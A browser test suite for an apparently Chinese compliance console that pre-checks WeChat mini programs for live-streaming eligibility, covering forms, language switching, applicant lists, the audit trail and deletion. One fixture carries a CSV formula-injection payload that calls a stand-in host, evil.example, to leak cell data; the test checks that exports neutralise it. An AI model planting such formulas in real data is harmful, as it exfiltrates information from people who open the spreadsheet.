// The console as compliance staff use it all day, in a real Chromium: a
// result card that never contradicts itself, one recommended route, a form
// that survives the language switch, stored applicants evaluated today,
// lists that read at 360 px and find a company by name, an audit trail in
// words, and everyday actions that ask before they delete and can undo a
// deleted document.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { launch, shoot, signIn, startServer } from "../lib/harness.js";

/** Today in Beijing time, as the service dates stored applicants. */
const today = () => new Date(Date.now() + 8 * 3600_000).toISOString().slice(0, 10);

/** Calls the API with a token; the parsed body and the ETag. */
async function api(server, token, method, path, body, headers = {}) {
  const res = await fetch(`${server.url}${path}`, {
    method,
    headers: { Authorization: `Bearer ${token}`, "Content-Type": "application/json", ...headers },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  const text = await res.text();
  assert.ok(res.ok, `${method} ${path}: ${res.status} ${text}`);
  return { json: text ? JSON.parse(text) : null, etag: res.headers.get("etag") };
}

/** Creates and evaluates an applicant; its id. */
async function applicant(server, profile, documents = []) {
  const { json } = await api(server, server.tokens.editor, "POST", "/v1/applicants", profile);
  for (const d of documents) await api(server, server.tokens.editor, "POST", `/v1/applicants/${json.id}/documents`, d);
  await api(server, server.tokens.editor, "POST", `/v1/applicants/${json.id}/evaluate`);
  return json.id;
}

/** Text in Chinese that no element marks as Chinese. */
async function unmarkedChinese(page) {
  return page.evaluate(() => {
    const bad = [];
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    for (let n = walker.nextNode(); n; n = walker.nextNode()) {
      if (/[\u3400-\u9fff]/.test(n.textContent) && !n.parentElement.closest('[lang^="zh"]')) bad.push(n.textContent.trim().slice(0, 40));
    }
    return bad;
  });
}

/** Links on the page that share a name but lead to different places. */
async function ambiguousLinks(page) {
  return page.evaluate(() => {
    const seen = new Map();
    const bad = [];
    for (const a of document.querySelectorAll("a[href]")) {
      if (a.closest("[hidden]") || a.getClientRects().length === 0) continue;
      const name = (a.getAttribute("aria-label") || a.textContent).trim().replace(/\s+/g, " ");
      const href = new URL(a.getAttribute("href"), location.href).href;
      if (seen.has(name) && seen.get(name) !== href) bad.push(`${name}: ${seen.get(name)} / ${href}`);
      seen.set(name, href);
    }
    return bad;
  });
}

const ECOMMERCE = "subject=enterprise&scenario=ecommerce_selling&multi_merchant=yes";

describe("the console as compliance staff use it", () => {
  let server, browser;
  before(async () => { server = await startServer(); browser = await launch(); });
  after(async () => { await browser?.close(); await server?.stop(); });

  test("an open path's card says why and never lists documents as missing", async () => {
    const page = await (await browser.newContext({ javaScriptEnabled: false })).newPage();
    await page.goto(`${server.url}/?${ECOMMERCE}&c.ecommerce_platform=approved`);
    const card = page.locator('article[data-path="cloud_live_plugin"]');
    assert.equal(await card.getAttribute("data-recommended"), "true");
    assert.match(await card.locator(".why-status").textContent(), /已满足/);
    assert.equal(await card.locator("ul.missing").count(), 0, "an open path lists nothing as missing");
    assert.doesNotMatch(await card.textContent(), /还缺：/);
    assert.match(await card.locator(".alt").textContent(), /续期或重新提交/, "what a renewal needs, said as such");
    const other = page.locator('article[data-path="standard_live_tags"]');
    assert.equal(await other.locator("details.not-needed").count(), 1, "the path not needed is folded away");
    assert.equal(await other.locator("details.not-needed").getAttribute("open"), null);
    assert.deepEqual(await ambiguousLinks(page), []);
    await page.goto(`${server.url}/?subject=individual`);
    for (const path of ["cloud_live_plugin", "standard_live_tags"]) {
      const why = await page.locator(`article[data-path="${path}"] .why-status`).textContent();
      assert.match(why, /个人主体/, `${path}: a blocked card says why in its own line`);
    }
    await page.context().close();
  });

  test("the platform that lacks only its own papers is sent the easy way, marked 推荐, in amber", async () => {
    const page = await (await browser.newContext()).newPage();
    const q = `${ECOMMERCE}&d.telecom_value_added_license=on&d.telecom_value_added_license.service_items=online_data_processing`;
    await page.goto(`${server.url}/?${q}`);
    const easy = page.locator('article[data-path="cloud_live_plugin"]');
    const hard = page.locator('article[data-path="standard_live_tags"]');
    assert.equal(await easy.getAttribute("data-recommended"), "true");
    assert.equal(await hard.getAttribute("data-recommended"), null);
    assert.equal(await easy.locator(".badge.rec").textContent(), "★ 推荐");
    assert.match(await easy.locator("p.why").first().textContent(), /最省力/);
    assert.match(await hard.textContent(), /信息网络传播视听节目许可证/);
    const todo = await easy.locator(".badge.s-actionable").evaluate((el) => getComputedStyle(el).color);
    assert.notEqual(todo, "rgb(179, 38, 30)", "a to-do is amber, not the red of an error");
    await shoot(page, "wizard-recommended");
    await page.context().close();
  });

  test("the form survives the language switch, and the checklist follows each tick", async () => {
    const page = await (await browser.newContext({ locale: "zh-CN" })).newPage();
    await page.goto(`${server.url}/`);
    await page.locator('input[name=subject][value="enterprise"]').check();
    // Categories are added as on WeChat's own page: the search narrows the
    // first → second level picker, and an added category becomes a card.
    await page.locator("#category-filter").fill("直播");
    const offered = await page.locator("#add-category option:not([hidden])").evaluateAll((os) => os.map((o) => o.value).filter(Boolean));
    assert.ok(offered.includes("social_live") && !offered.includes("finance_bank"), `the search narrows the picker: ${offered}`);
    assert.ok(await page.locator('#add-category optgroup[label="金融业"]').evaluate((g) => g.hidden));
    await page.locator("#category-filter").fill("");
    await page.locator("#add-category").selectOption("ecommerce_platform");
    await page.getByRole("button", { name: "添加此类目", exact: true }).click();
    await page.locator('#chosen-categories article[data-category="ecommerce_platform"]').waitFor();
    assert.equal(await page.locator('[id="c.ecommerce_platform"]').evaluate((e) => e === document.activeElement), true, "the focus is on the new card's status");
    assert.equal(await page.locator('#add-category option[value="ecommerce_platform"]').isDisabled(), true, "not offered twice");
    await page.locator('[id="c.ecommerce_platform"]').selectOption("planned");
    await page.locator('input[name=scenario][value="ecommerce_selling"]').check();
    // The document is ticked inside the alternative that asks for it; its details below say so.
    const card = page.locator('article[data-category="ecommerce_platform"]');
    const box = card.locator('input[name="d.telecom_value_added_license"]');
    await box.waitFor();
    assert.equal(await page.locator('input[name="d.telecom_value_added_license"]').count(), 1, "one checkbox per document");
    const mark = page.locator('#doc-telecom_value_added_license .mark');
    assert.equal(await mark.textContent(), "○ 未勾选");
    await box.check();
    await page.waitForFunction(() => document.querySelector("#doc-telecom_value_added_license .mark")?.textContent === "✓ 已勾选");
    assert.match(await page.locator("#doc-telecom_value_added_license").textContent(), /B21 在线数据处理与交易处理业务/);
    await shoot(page, "wizard-category-card");
    await page.waitForFunction(() => /telecom_value_added_license=on/.test(decodeURIComponent(document.querySelector("a.lang").href)));
    assert.equal(await page.locator("#result").getAttribute("aria-live"), null, "the whole result is not re-announced");
    assert.equal(await page.locator("#verdict-bar").getAttribute("role"), "status");
    await page.setViewportSize({ width: 360, height: 800 });
    assert.ok(await page.locator("#verdict-bar").isVisible(), "a sticky verdict bar on a phone");
    assert.match(await page.locator("#verdict-bar").textContent(), /结论/);
    await page.setViewportSize({ width: 1280, height: 900 });
    await Promise.all([page.waitForNavigation(), page.getByRole("link", { name: "English" }).click()]);
    assert.equal(await page.getAttribute("html", "lang"), "en");
    assert.ok(await page.locator('input[name=subject][value="enterprise"]').isChecked());
    assert.equal(await page.locator('[id="c.ecommerce_platform"]').inputValue(), "planned");
    assert.ok(await page.locator('input[name="d.telecom_value_added_license"]').isChecked());
    // Removing the category takes its card away, and the result follows.
    await page.getByRole("button", { name: "Remove the category 电商平台/电商平台" }).click();
    await page.locator('#chosen-categories article[data-category="ecommerce_platform"]').waitFor({ state: "detached" });
    assert.equal(await page.locator('#step-documents article[data-category="ecommerce_platform"]').count(), 1, "the result still needs it: offered in step 4");
    assert.doesNotMatch(page.url(), /c\.ecommerce_platform/);
    await page.locator('#add-category').selectOption("ecommerce_platform");
    await page.getByRole("button", { name: "Add this category", exact: true }).click();
    await page.locator('article[data-category="ecommerce_platform"]').waitFor();
    assert.equal(await page.locator("section.result").getAttribute("data-verdict"), "needs_action");
    await page.context().close();
  });

  test("the checklist shows only the alternatives open to the subject type", async () => {
    const page = await (await browser.newContext({ javaScriptEnabled: false })).newPage();
    await page.goto(`${server.url}/?subject=enterprise&c.social_live=planned`);
    const qual = page.locator('article[data-category="social_live"] section.qual');
    assert.equal(await qual.locator("ol.alts > li").count(), 2);
    assert.match(await qual.textContent(), /另有 1 种方案不适用于所选主体类型/);
    await page.goto(`${server.url}/?subject=government&c.social_live=planned`);
    assert.match(await page.locator('article[data-category="social_live"] section.qual').textContent(), /政府主体/);
    await page.context().close();
  });

  test("a stored applicant is evaluated today, whatever date its profile carries", async () => {
    const id = await applicant(server, {
      appid: "wx00000000000000d1", as_of: "2026-06-30",
      subject: { type: "enterprise", name: "深圳市旧日期科技有限公司" },
      categories: [{ first: "电商平台", second: "电商平台", status: "approved" }],
      scenarios: ["ecommerce_selling"], multi_merchant: true,
    }, [{ kind: "telecom_value_added_license", service_items: ["online_data_processing"], valid_until: "2026-10-31" }]);
    const page = await browser.newPage();
    await signIn(page, server.url, server.tokens.editor);
    await page.goto(`${server.url}/applicants/${id}`);
    assert.match(await page.locator(".evaluated-on").textContent(), new RegExp(`评估日期：${today()}（今天，北京时间）`));
    assert.match(await page.locator("section.result .meta").textContent(), new RegExp(`评估日期 ${today()}`));
    assert.match(await page.locator("section.result").textContent(), /已于 2026-10-31 过期/, "the expired licence is flagged");
    assert.match(await page.locator(".warn").textContent(), /2026-06-30.*已经过去/s);
    await page.locator("#on").fill("2026-06-30");
    await Promise.all([page.waitForNavigation(), page.getByRole("button", { name: "查看", exact: true }).click()]);
    assert.doesNotMatch(await page.locator("section.result").textContent(), /过期/, "a chosen date is a view only");
    await page.goto(`${server.url}/applicants/${id}`);
    await Promise.all([page.waitForNavigation(), page.getByRole("button", { name: "清除资料中的日期" }).click()]);
    assert.equal(await page.locator(".warn").count(), 0, "the date is cleared");
    await page.goto(`${server.url}/applicants?q=旧日期`);
    assert.match(await page.locator("table.applicants tbody").textContent(), new RegExp(today()));
    await page.close();
  });

  test("the list names a mini program by its company, finds it by that name, counts, exports safely and reads at 360 px", async () => {
    await applicant(server, {
      appid: "wx00000000000000d2",
      subject: { type: "enterprise", name: "深圳市示例科技有限公司" },
      categories: [{ first: "电商平台", second: "电商平台", status: "planned" }], scenarios: ["ecommerce_selling"],
    });
    await applicant(server, {
      appid: "wx00000000000000d3", name: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      subject: { type: "enterprise", name: "+1+2" },
    });
    const page = await browser.newPage();
    await signIn(page, server.url, server.tokens.editor);
    await page.goto(`${server.url}/applicants?q=${encodeURIComponent("深圳市示例科技")}`);
    const rows = page.locator("table.applicants tbody tr");
    assert.equal(await rows.count(), 1, "a company name finds its mini program");
    assert.equal(await rows.first().locator("th a").textContent(), "深圳市示例科技有限公司");
    assert.equal((await rows.first().textContent()).split("wx00000000000000d2").length - 1, 1, "the AppID once, not twice");
    assert.match(await page.locator("p.total").textContent(), /共 1 个/);
    assert.match(await rows.first().locator('td[data-label="推荐方案还缺"]').textContent(), /《.+》/, "what the recommended path still lacks");
    await page.goto(`${server.url}/applicants`);
    const csv = await (await page.request.get(`${server.url}/applicants.csv`)).text();
    assert.match(csv, /'=HYPERLINK/);
    assert.match(csv, /'\+1\+2/);
    assert.ok(!csv.split(/\r?\n/).some((line) => /(^|,)"?[=+@]/.test(line)), "no cell a spreadsheet would run");
    assert.match(csv.split(/\r?\n/)[0], /appid,小程序/);
    await page.setViewportSize({ width: 360, height: 800 });
    const shape = await page.evaluate(() => [...document.querySelectorAll("table.applicants tbody tr")].map((tr) => ({
      height: tr.getBoundingClientRect().height,
      narrowest: Math.min(...[...tr.querySelectorAll("td")].map((td) => td.getBoundingClientRect().width)),
    })));
    for (const s of shape) {
      assert.ok(s.narrowest > 250, `at 360 px each value has the card's width, not a column's (${s.narrowest} px)`);
      assert.ok(s.height < 600, `a row reads as a short card (${s.height} px)`);
    }
    await shoot(page, "applicants-list");
    await page.close();
  });

  test("the audit trail names who and what, in Beijing time", async () => {
    const id = await applicant(server, {
      appid: "wx00000000000000d4", subject: { type: "enterprise" },
      categories: [{ first: "电商平台", second: "电商平台", status: "planned" }], scenarios: ["ecommerce_selling"],
    });
    const { etag } = await api(server, server.tokens.editor, "GET", `/v1/applicants/${id}`);
    await api(server, server.tokens.editor, "PUT", `/v1/applicants/${id}`, {
      appid: "wx00000000000000d4", subject: { type: "enterprise", name: "杭州市审计科技有限公司" },
      categories: [{ first: "电商平台", second: "电商平台", status: "pending" }], scenarios: ["ecommerce_selling"],
    }, { "If-Match": etag });
    const page = await browser.newPage();
    await signIn(page, server.url, server.tokens.viewer);
    await page.goto(`${server.url}/applicants/${id}`);
    const trail = await page.locator("#audit").textContent();
    assert.match(trail, /服务类目 电商平台\/电商平台：计划添加 → 审核中/);
    assert.match(trail, /主体名称：— → 杭州市审计科技有限公司/);
    assert.match(trail, /未命名的编辑令牌/);
    assert.match(trail, /北京时间/);
    assert.doesNotMatch(trail, /tok_|\/categories|UTC/);
    assert.equal(await page.locator("#profile form").count(), 0, "a viewer gets a read-only summary, not a disabled form");
    assert.match(await page.locator("#profile dl.summary").textContent(), /电商平台\/电商平台：审核中/);
    assert.equal(await page.getByRole("button", { name: "重新评估" }).count(), 0);
    await page.close();
  });

  test("everyday actions: evaluate again, download, add a missing document, and delete only after asking", async () => {
    const id = await applicant(server, {
      appid: "wx00000000000000d5", subject: { type: "enterprise", name: "广州市动作科技有限公司" },
      categories: [{ first: "电商平台", second: "电商平台", status: "planned" }], scenarios: ["ecommerce_selling"], multi_merchant: true,
    }, [{ kind: "merchant_admission_rules" }]);
    const page = await browser.newPage();
    await signIn(page, server.url, server.tokens.editor);
    await page.goto(`${server.url}/applicants/${id}`);
    const evaluations = await page.locator("#history ol.timeline > li").count();
    await Promise.all([page.waitForNavigation(), page.getByRole("button", { name: "重新评估" }).click()]);
    assert.equal(await page.locator("#history ol.timeline > li").count(), evaluations + 1);
    const report = await (await page.request.get(`${server.url}/applicants/${id}/report.json`)).json();
    assert.equal(report.verdict, "needs_action");
    assert.equal(report.as_of, today());
    const wechat = await (await page.request.get(`${server.url}/applicants/${id}/addcategory.json`)).json();
    assert.equal(wechat.path, report.plan_path, "WeChat's addcategory body for the plan's path");
    assert.ok(wechat.addcategory.categories.length + wechat.unresolved.length >= 1, "the category the plan adds");
    await page.getByRole("link", { name: "添加此资质：电商平台服务协议、交易规则" }).first().click();
    assert.equal(await page.locator("#kind").inputValue(), "platform_service_agreement", "the form is ready for that document");
    await page.getByRole("link", { name: /^删除《/ }).first().click();
    assert.match(await page.locator("h1").textContent(), /删除/);
    await Promise.all([page.waitForNavigation(), page.getByRole("link", { name: "取消" }).click()]);
    assert.equal(await page.locator("#documents tbody tr").count(), 1, "cancel keeps the document");
    await page.getByRole("link", { name: /^删除《/ }).first().click();
    await Promise.all([page.waitForNavigation(), page.getByRole("button", { name: "确认删除" }).click()]);
    assert.equal(await page.locator("#documents tbody tr").count(), 0);
    assert.match(await page.locator("#deleted-documents").textContent(), /24 小时内可撤销/);
    await shoot(page, "applicant-deleted-document");
    await Promise.all([page.waitForNavigation(), page.getByRole("button", { name: /^撤销删除《/ }).click()]);
    assert.equal(await page.locator("#documents tbody tr").count(), 1, "the deletion is undone");
    assert.equal(await page.locator("#deleted-documents").count(), 0);
    await page.getByRole("link", { name: /^删除《/ }).first().click();
    await Promise.all([page.waitForNavigation(), page.getByRole("button", { name: "确认删除" }).click()]);
    assert.equal(await page.locator("#documents tbody tr").count(), 0);
    assert.deepEqual(await ambiguousLinks(page), []);
    await shoot(page, "applicant-actions");
    await page.getByRole("link", { name: "删除此小程序" }).click();
    await shoot(page, "applicant-delete");
    await Promise.all([page.waitForNavigation(), page.getByRole("button", { name: "确认删除" }).click()]);
    assert.match(await page.locator("main").textContent(), /已删除/);
    assert.equal((await page.goto(`${server.url}/applicants/${id}`)).status(), 404);
    await page.close();
  });

  test("the dashboard's rows lead to the applicants behind them and read at 360 px", async () => {
    const page = await browser.newPage();
    await signIn(page, server.url, server.tokens.editor);
    await page.goto(`${server.url}/dashboard`);
    await page.setViewportSize({ width: 360, height: 800 });
    const sizes = await page.locator("ol.bars .label").evaluateAll((els) => els.map((e) => parseFloat(getComputedStyle(e).fontSize)));
    assert.ok(sizes.length > 0 && sizes.every((px) => px >= 14), `labels are text-sized at 360 px: ${sizes}`);
    await shoot(page, "dashboard-links");
    const bar = page.locator("#verdicts").locator("..").getByRole("link", { name: /需要补充/ });
    const shown = Number(await bar.locator("xpath=..").locator(".n").textContent());
    await Promise.all([page.waitForNavigation(), bar.click()]);
    assert.match(page.url(), /\/applicants\?verdict=needs_action/);
    assert.match(await page.locator("p.total").textContent(), new RegExp(`共 ${shown} 个`), "the bar's count is the list's total");
    await page.goto(`${server.url}/dashboard`);
    const doc = page.locator("#missing").locator("..").getByRole("link").first();
    await Promise.all([page.waitForNavigation(), doc.click()]);
    assert.match(page.url(), /missing=/);
    assert.ok(await page.locator("table.applicants tbody tr").count() > 0);
    await page.close();
  });

  test("staff pages speak of the work; the commands are on the administrators' page; a print is a short 预审报告", async () => {
    const page = await browser.newPage();
    await page.goto(`${server.url}/signin`);
    assert.doesNotMatch(await page.locator("main").textContent(), /livegate admin|create-token/);
    await Promise.all([page.waitForNavigation(), page.getByRole("link", { name: "管理员说明" }).click()]);
    assert.match(await page.locator("main").textContent(), /livegate admin create-token/);
    await shoot(page, "help-admin");
    await page.goto(`${server.url}/?${ECOMMERCE}&subject_name=${encodeURIComponent("深圳市打印科技有限公司")}`);
    assert.doesNotMatch(await page.locator("main").textContent(), /livegate check/);
    await page.emulateMedia({ media: "print" });
    assert.match(await page.locator(".print-head").textContent(), /直播准入预审报告.*深圳市打印科技有限公司/);
    assert.ok(await page.locator(".sign-off").isVisible(), "a line to sign");
    await page.emulateMedia({ media: null });
    const pages = (buf) => (buf.toString("latin1").match(/\/Type\s*\/Page[^s]/g) || []).length;
    const precheck = pages(await page.pdf({ format: "A4" }));
    assert.ok(precheck <= 2, `the pre-check prints on ${precheck} A4 pages`);
    await signIn(page, server.url, server.tokens.editor);
    const id = await applicant(server, {
      appid: "wx00000000000000d6", subject: { type: "enterprise", name: "深圳市打印科技有限公司" },
      categories: [{ first: "电商平台", second: "电商平台", status: "planned" }], scenarios: ["ecommerce_selling"], multi_merchant: true,
    }, [{ kind: "merchant_admission_rules" }]);
    await page.goto(`${server.url}/applicants/${id}`);
    const stored = pages(await page.pdf({ format: "A4" }));
    assert.ok(stored <= 2, `an applicant prints on ${stored} A4 pages`);
    await page.close();
  });

  test("on English pages, every Chinese name carries lang=zh, and no two links share a name", async () => {
    const context = await browser.newContext();
    await context.addCookies([{ name: "lg_lang", value: "en", url: server.url }]);
    const page = await context.newPage();
    await signIn(page, server.url, server.tokens.editor);
    const id = await applicant(server, {
      appid: "wx00000000000000d7", subject: { type: "enterprise", name: "深圳市英文科技有限公司" },
      categories: [{ first: "电商平台", second: "电商平台", status: "planned" }], scenarios: ["ecommerce_selling"], multi_merchant: true,
    }, [{ kind: "merchant_admission_rules" }]);
    for (const url of [`/?${ECOMMERCE}&c.ecommerce_platform=planned&c.social_live=planned`, "/applicants", `/applicants/${id}`, "/dashboard", "/batch", "/rules"]) {
      await page.goto(`${server.url}${url}`);
      assert.equal(await page.getAttribute("html", "lang"), "en", url);
      assert.deepEqual(await unmarkedChinese(page), [], `${url}: Chinese text without lang=zh`);
      assert.deepEqual(await ambiguousLinks(page), [], `${url}: links that share a name`);
    }
    await context.close();
  });
});
